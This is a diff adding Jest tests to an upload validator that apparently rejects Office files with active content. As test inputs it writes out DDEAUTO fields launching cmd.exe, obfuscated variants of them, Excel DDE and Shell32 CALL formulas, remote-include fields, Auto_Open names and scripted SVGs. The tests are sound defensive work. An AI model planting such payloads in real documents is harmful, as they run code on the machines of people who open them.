@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { archive, docx, docxType, docxWith, pdf, zip } from '../../../test/support/sample-files.js';
+import type { SamplePart } from '../../../test/support/sample-files.js';
 import {
   basicLibraries,
   libreOfficeDocument,
@@ -251,6 +252,138 @@ describe('The type of a file', () => {
   ])('is not taken of a document with a template or a linked object at %s', async (target) => {
     for (const type of ['attachedTemplate', 'oleObject', 'package', 'subDocument'])
       expect(await codeOf(docxWith(part('word/_rels/a.xml.rels', relationshipsOf([type, target, true]))), docxType)).toBe('file-type-not-allowed');
+  }); // prettier-ignore
+
+  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+  const words = (body: string, more = w): string => `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<w:document ${more} xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><w:body><w:p>${body}</w:p></w:body></w:document>`; // prettier-ignore
+  const run = (what: string): string => `<w:r w:rsidR="00A1"><w:rPr><w:b/></w:rPr>${what}</w:r>`;
+  const turn = (kind: string): string => run(`<w:fldChar w:fldCharType="${kind}"/>`);
+  const said = (text: string, name = 'instrText'): string => run(`<w:${name} xml:space="preserve">${escaped(text)}</w:${name}>`);
+  const field = (...codes: readonly string[]): string => `${turn('begin')}${codes.map((code) => (code.startsWith('<') ? code : said(code))).join('')}${turn('separate')}${run('<w:t>1</w:t>')}${turn('end')}`; // prettier-ignore
+  const header = (body: string): SamplePart => part('word/header1.xml', words(body));
+
+  it.each([
+    ['a page number, a link, a table of contents and a number that is counted', field(' PAGE \\* MERGEFORMAT ') + field(' HYPERLINK "http://example.vn/dde" ') + field(' TOC \\o "1-3" \\h \\z \\u ') + field(' = ', field(' NUMPAGES '), ' - 1 ')],
+    ['a choice between fields', field(' IF ', field(' MERGEFIELD DDE '), ' = "DDEAUTO" "a" "b" ')],
+    ['a place to click', field(' MACROBUTTON NoMacro [Họ tên] ')],
+    ['a picture from a server', field(' INCLUDEPICTURE "http://example.vn/a.png" \\d ')],
+    ['tables and texts of its office', field(' LINK Excel.Sheet.12 "D:\\\\So lieu\\\\a.xlsx" "Biểu!R1C1:R9C4" \\a \\f 5 \\h ') + field(' LINK Excel.Sheet.8 D:\\\\a.xls A1:B2 \\a ') + field(' INCLUDETEXT "\\\\\\\\maychu\\\\chung\\\\a.docx" ')],
+    ['what was cited', field(` ADDIN ZOTERO_ITEM CSL_CITATION {"uri":"http://zotero.org/${'x'.repeat(90_000)}"} `)],
+    ['a field in a field by a slip', field(field(' PAGE '))],
+    ['an equation and a box with a page number', `<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f><m:num><m:r><m:t>a</m:t></m:r></m:num></m:f></m:oMath>${run(`<mc:AlternateContent><mc:Choice Requires="wps"><wps:txbx xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><w:txbxContent>${field(' PAGE ')}</w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict>${field(' PAGE ')}</w:pict></mc:Fallback></mc:AlternateContent>`)}`],
+    ['text about fields', run('<w:t>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:t>')],
+  ])('is known of a document with fields: %s', async (_what, body) => {
+    expect(await codeOf(docxWith(header(body)), docxType)).toBeNull();
+  }); // prettier-ignore
+
+  const ask = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ';
+  const foreign = '<x:a xmlns:x="urn:example"><w:instrText>PAGE </w:instrText></x:a>';
+  it.each([
+    ['in one piece', field(` DDEAUTO ${ask}`)],
+    ['in another case', field(` dde ${ask}`)],
+    ['spread over runs', field(' ', 'D', 'DE', '<w:proofErr w:type="spellStart"/>', 'AUT', `O ${ask}`)],
+    ['in references', turn('begin') + run('<w:instrText>&#68;D&#x45;AUTO x y</w:instrText>') + turn('end')],
+    ['in a section of characters', turn('begin') + run('<w:instrText>D<![CDATA[DEAUT]]>O x y</w:instrText>') + turn('end')],
+    ['behind a comment', turn('begin') + run('<w:instrText>D<!-- -->DEAUTO x y</w:instrText>') + turn('end')],
+    ['within another', field(' IF ', field(` DDEAUTO ${ask}`), ' = 1 ')],
+    ['with a name that another says', field(' DDE', field(' QUOTE 65 85 84 79 '), ask)],
+    ['with a name that is only said by another', field(field(' QUOTE 68 68 69 '), ask)],
+    ['with a program that another says', field(' DDE ', field(' REF a '), ' ')],
+    ['without a result', turn('begin') + said(` DDEAUTO ${ask}`) + turn('end')],
+    ['without an end', turn('begin') + said(` DDEAUTO ${ask}`)],
+    ['without a beginning', said(` DDEAUTO ${ask}`)],
+    ['that was deleted', turn('begin') + said(' DDEAUTO x y ', 'delInstrText') + turn('end')],
+    ['with letters between that were deleted', turn('begin') + said(' DD') + said('x', 'delInstrText') + said(`EAUTO ${ask}`) + turn('end')],
+    ['as text', turn('begin') + run(`<w:t>DDEAUTO ${escaped(ask)}</w:t>`) + turn('end')],
+    ['that is simple', `<w:fldSimple w:instr="${escaped(` DDEAUTO ${ask}`)}">${run('<w:t>1</w:t>')}</w:fldSimple>`],
+    ['to a database', field(' DATABASE \\d "D:\\\\a.mdb" \\c "DSN=a" \\s "SELECT 1" ')],
+    ['for a text on a server', field(' INCLUDETEXT "http://example.com/a.docx" ')],
+    ['for a text on a share', field(' INCLUDETEXT "\\\\\\\\example.com\\\\a.docx" \\* MERGEFORMAT ')],
+    ['for a text on a share, written once', field(' INCLUDETEXT \\\\example.com\\a.docx ')],
+    ['for a text where another field says', field(' INCLUDETEXT "', field(' QUOTE 104 '), '" ')],
+    ['for a table on a server', field(' LINK Excel.Sheet.12 “https://example.com/a.xlsx” "A!R1C1" \\a ')],
+    ['for a chapter on a server', field(' RD "http://example.com/a.docx" ')],
+  ])('is not taken of a document with a field that asks %s', async (_how, body) => {
+    expect(await codeOf(docxWith(header(body)), docxType)).toBe('file-type-not-allowed');
+    expect(await codeOf(docxWith(part('a.bin', Buffer.from(`\ufeff${words(body)}`, 'utf16le'))), docxType)).toBe('file-type-not-allowed');
+  }); // prettier-ignore
+
+  it.each([
+    ['with what one reader drops', turn('begin') + run(foreign) + said(`DDEAUTO ${ask}`) + turn('end')],
+    ['in what one reader drops', turn('begin') + run('<mc:AlternateContent><mc:Choice Requires="w14"><w:instrText>DD</w:instrText></mc:Choice></mc:AlternateContent>') + said(`EAUTO ${ask}`) + turn('end')],
+    ['with something in its name', turn('begin') + run('<w:instrText>DD<x:a xmlns:x="urn:example">x</x:a>EAUTO x</w:instrText>') + turn('end')],
+    ['that ends in what one reader drops', turn('begin') + `<x:a xmlns:x="urn:example">${turn('end')}</x:a>` + said('DDEAUTO x') + turn('end')],
+    ['behind white space without end', turn('begin') + said(' '.repeat(20_000)) + said('DDEAUTO x') + turn('end')],
+    ['with two turns at once', run('<w:fldChar w:fldCharType="begin" x:fldCharType="end"/>') + said('DDEAUTO x')],
+  ])('is not believed of a document with a field that readers may take in different ways: %s', async (_how, body) => {
+    expect(await codeOf(docxWith(header(body)), docxType)).toBe('file-type-mismatch');
+  }); // prettier-ignore
+
+  const s = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
+  const sheet = (formula: string): SamplePart => part('xl/worksheets/sheet2.xml', `<worksheet ${s}><sheetData><row r="1"><c r="A1"><f>${escaped(formula)}</f><v>1</v></c></row></sheetData></worksheet>`); // prettier-ignore
+  it('is known of a table with formulas', async () => {
+    const ordinary = ["SUM(Sheet1!A1:B2)", `IF(A1="a|b","WEBSERVICE(","")`, "'Quý I|II'!A1", 'Table1[[#This Row],[Tên|Mã]]', "Table1[it''s]", "'[1]Biểu'!A1", '_xlfn.XLOOKUP(A1,B:B,C:C)', 'SUM({1,2;3,4})', 'HYPERLINK("https://example.vn","a")', 'CALLED(1)', '[1]!Ten', 'SUM(']; // prettier-ignore
+    for (const formula of ordinary) expect([formula, await codeOf(spreadsheet(sheet(formula)), xlsxType)]).toEqual([formula, null]);
+  });
+
+  it.each([
+    ['a channel to a program', "cmd|'/c calc'!A0"],
+    ['a channel to a program behind another word', "1+ 'MSEXCEL'|'\\..\\..\\cmd.exe /c calc'!''"],
+    ['a channel behind a name that does not end', "'a\"+cmd|x!A0"],
+    ['a channel between names with quotes', "T[a'[b]+cmd|'/c calc'!A0+T[a'[b]"],
+    ['a server', '_xlfn.WEBSERVICE("http://example.com/"&A1)'],
+    ['a program that sends in real time', 'RTD("a.b",,"c")'],
+    ['a library of the system', 'CALL("Shell32","ShellExecuteA","JJCCCJJ",0)'],
+    ['a program elsewhere', '_xlfn._xlws.PY(0,0)'],
+    ['a database', 'SQL.REQUEST ("DSN=a",,,"SELECT 1")'],
+  ])('is not taken of a table with a formula that asks %s', async (_what, formula) => {
+    expect(await codeOf(spreadsheet(sheet(formula)), xlsxType)).toBe('file-type-not-allowed');
+    const named = `<x:workbook xmlns:x="http://purl.oclc.org/ooxml/spreadsheetml/main"><x:definedNames><x:definedName name="a">${escaped(formula)}</x:definedName></x:definedNames></x:workbook>`;
+    expect(await codeOf(spreadsheet(part('xl/a.dat', named)), xlsxType)).toBe('file-type-not-allowed');
+  }); // prettier-ignore
+
+  it.each([
+    ['a channel in its links', 'xl/externalLinks/externalLink2.xml', `<externalLink ${s}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink></externalLink>`],
+    ['a name that starts by itself', 'xl/workbook2.xml', `<workbook ${s}><definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames></workbook>`],
+    ['data that are fetched when it is opened', 'xl/connections.xml', `<connections ${s}><connection id="1" type="5" refreshOnLoad="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1"/></connection></connections>`],
+    ['data that are fetched again and again', 'xl/connections.xml', `<connections ${s}><connection id="1" interval="5"/></connections>`],
+    ['a page that is fetched', 'xl/connections.xml', `<connections ${s}><connection id="1"><webPr url="http://example.com/a"/></connection></connections>`],
+    ['data on a share', 'xl/connections.xml', `<connections ${s}><connection id="1"><dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\example.com\\a\\b.xlsx;Mode=Read"/></connection></connections>`],
+    ['a query that runs when it is opened', 'xl/queryTables/queryTable1.xml', `<queryTable ${s} refreshOnLoad="true"/>`],
+    ['a pivot of what is fetched when it is opened', 'xl/pivotCache/a.xml', `<pivotCacheDefinition ${s} refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>`],
+    ['a program for the margin', 'xl/webextensions/webextension1.xml', '<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{A}"/>'],
+    ['a program for the margin, in its relationships', '_rels/a.rels', relationshipsOf(['http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', '/xl/a.xml'])],
+    ['a program by the name of its file', 'docProps/custom.xml', '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property fmtid="{D5}" pid="2" name="_AssemblyLocation"><vt:lpwstr xmlns:vt="urn:a">http://example.com/a.vsto|b</vt:lpwstr></property></Properties>'],
+    ['addresses of a letter on a server', 'word/_rels/settings.xml.rels', relationshipsOf(['mailMergeSource', 'file:///\\\\example.com\\a\\b.xlsx', true])],
+    ['addresses of a letter on a server, in words', 'word/settings.xml', `<w:settings ${w}><w:mailMerge><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=http://example.com/a.xlsx"/></w:mailMerge></w:settings>`],
+    ['a control that is a browser', 'word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>'],
+    ['a film that is a page', 'word/document2.xml', words('<wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe&gt;"/>')],
+    ['a click that starts a program', 'ppt/slides/slide1.xml', '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/>'],
+    ['a pack of programs', 'word/settings.xml', `<w:settings ${w}><sl:schema xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main" sl:manifestLocation="http://example.com/a.xml"/></w:settings>`],
+    ['a drawing with a script', 'word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>run()</script></svg>'],
+    ['a drawing that acts when it is shown', 'word/media/image1.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="run()"/>'],
+    ['a drawing with a link that runs', 'word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><a href="java&#10;script:run()"/></svg>'],
+  ])('is not taken of a table or a text with %s', async (_what, name, content) => {
+    expect(await codeOf(docxWith(part(name, content)), docxType)).toBe('file-type-not-allowed');
+  }); // prettier-ignore
+
+  it('is not taken of a document that merges a page or a rich text into itself', async () => {
+    for (const type of ['text/html', 'application/rtf', 'message/rfc822'])
+      expect(await codeOf(archive([part('[Content_Types].xml', types(`<Default Extension="a" ContentType="${type}"/>`))]), docxType)).toBe('file-type-not-allowed');
+  }); // prettier-ignore
+
+  it.each([
+    ['data that are fetched when one asks for them', 'xl/connections.xml', `<connections ${s}><connection id="1" name="Query" type="5" refreshedVersion="8" background="1" interval="0"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=A" command="SELECT * FROM [A]"/></connection></connections>`],
+    ['a query of Power Query', 'customXml/item2.xml', Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', 'utf16le')],
+    ['a pivot of its own cells', 'xl/pivotCache/a.xml', `<pivotCacheDefinition ${s} refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>`],
+    ['addresses of a letter on the disk', 'word/_rels/settings.xml.rels', relationshipsOf(['mailMergeSource', 'file:///D:\\Danh%20sach.xlsx', true])],
+    ['a field of a form', 'word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>'],
+    ['a drawing', 'word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg" font-size="9"><path d="M0 0"/><a href="https://example.vn"/></svg>'],
+    ['data of another program that look like it', 'customXml/item3.xml', '<root><f>a|b<g/></f><instrText>DDE</instrText><connection interval="5"/></root>'],
+    ['a font that begins like XML', 'word/fonts/font1.odttf', Buffer.concat([Buffer.from('<abc'), Buffer.alloc(500, '\0<!')])],
+    ['a property', 'docProps/custom.xml', '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="Assembly"/></Properties>'],
+  ])('is known of a table or a text with %s', async (_what, name, content) => {
+    expect(await codeOf(docxWith(part(name, content)), docxType)).toBeNull();
   }); // prettier-ignore
 
   it('is looked for under names in either case', async () => {
